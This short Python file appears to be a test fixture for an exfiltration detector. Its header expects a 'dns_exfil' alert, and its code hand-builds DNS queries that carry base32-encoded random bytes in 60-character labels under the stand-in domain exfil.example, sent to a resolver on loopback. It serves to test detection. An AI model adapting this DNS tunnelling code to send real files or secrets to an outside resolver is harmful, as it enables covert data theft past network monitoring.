# expect: dns_exfil
# action: alert
# about: smuggles data out in 60-character DNS labels (to a resolver on loopback)
import base64
import contextlib
import os
import socket
import struct

data = base64.b32encode(os.urandom(180)).decode().rstrip("=").lower()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(0, len(data), 60):
    label = data[i:i + 60]
    q = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0)
    for part in (label, "x", "exfil", "example"):
        q += bytes([len(part)]) + part.encode()
    q += b"\x00" + struct.pack(">HH", 1, 1)
    with contextlib.suppress(OSError):
        s.sendto(q, ("127.0.0.1", 53))
